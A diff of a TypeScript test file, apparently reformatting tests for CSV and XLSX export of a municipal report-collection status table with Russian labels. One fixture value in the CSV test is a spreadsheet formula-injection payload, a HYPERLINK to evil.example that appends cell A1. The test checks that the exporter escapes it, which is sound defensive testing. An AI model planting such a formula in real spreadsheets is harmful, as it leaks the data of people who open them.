@@ -22,7 +22,13 @@ function status(): QuarterStatus {
     timeScale: 1,
     closed: false,
     municipalities: [
-      { ...requestedSummary('vyazma', '2023-07-10'), state: 'accepted', versions: 2, reminders: 1, lastAnswerAt: '2023-07-05T11:03:00Z' },
+      {
+        ...requestedSummary('vyazma', '2023-07-10'),
+        state: 'accepted',
+        versions: 2,
+        reminders: 1,
+        lastAnswerAt: '2023-07-05T11:03:00Z',
+      },
       { ...requestedSummary('smolensk', '2023-07-10'), state: 'overdue', reminders: 3 },
       { ...requestedSummary('evil', '2023-07-20'), state: 'rejected', versions: 1 },
     ],
@@ -68,7 +74,9 @@ describe('CSV', () => {
     expect(lines[0]).toBe(STATUS_HEADERS.join(';'));
     expect(lines[1]).toBe('smolensk;Город Смоленск;просрочено;3;0;;10.07.2023');
     expect(lines[2]).toBe('vyazma;"Вяземский район; «центр»";принято;1;2;05.07.2023 14:03;10.07.2023');
-    expect(lines[3]).toBe(`evil;"'=HYPERLINK(""http://evil.example/?""&A1,""нажмите"")";отклонено;0;1;;20.07.2023`);
+    expect(lines[3]).toBe(
+      `evil;"'=HYPERLINK(""http://evil.example/?""&A1,""нажмите"")";отклонено;0;1;;20.07.2023`,
+    );
     expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
   });
 
@@ -81,7 +89,9 @@ describe('CSV', () => {
 describe('status XLSX', () => {
   it('has one typed row per municipality under a frozen header', async () => {
     const workbook = new ExcelJS.Workbook();
-    await workbook.xlsx.load((await statusXlsx('2023-Q2', statusRows(status(), registry, STATE_LABELS))) as unknown as ArrayBuffer);
+    await workbook.xlsx.load(
+      (await statusXlsx('2023-Q2', statusRows(status(), registry, STATE_LABELS))) as unknown as ArrayBuffer,
+    );
     const sheet = workbook.worksheets[0]!;
     expect(sheet.name).toBe('Состояние сбора');
     expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
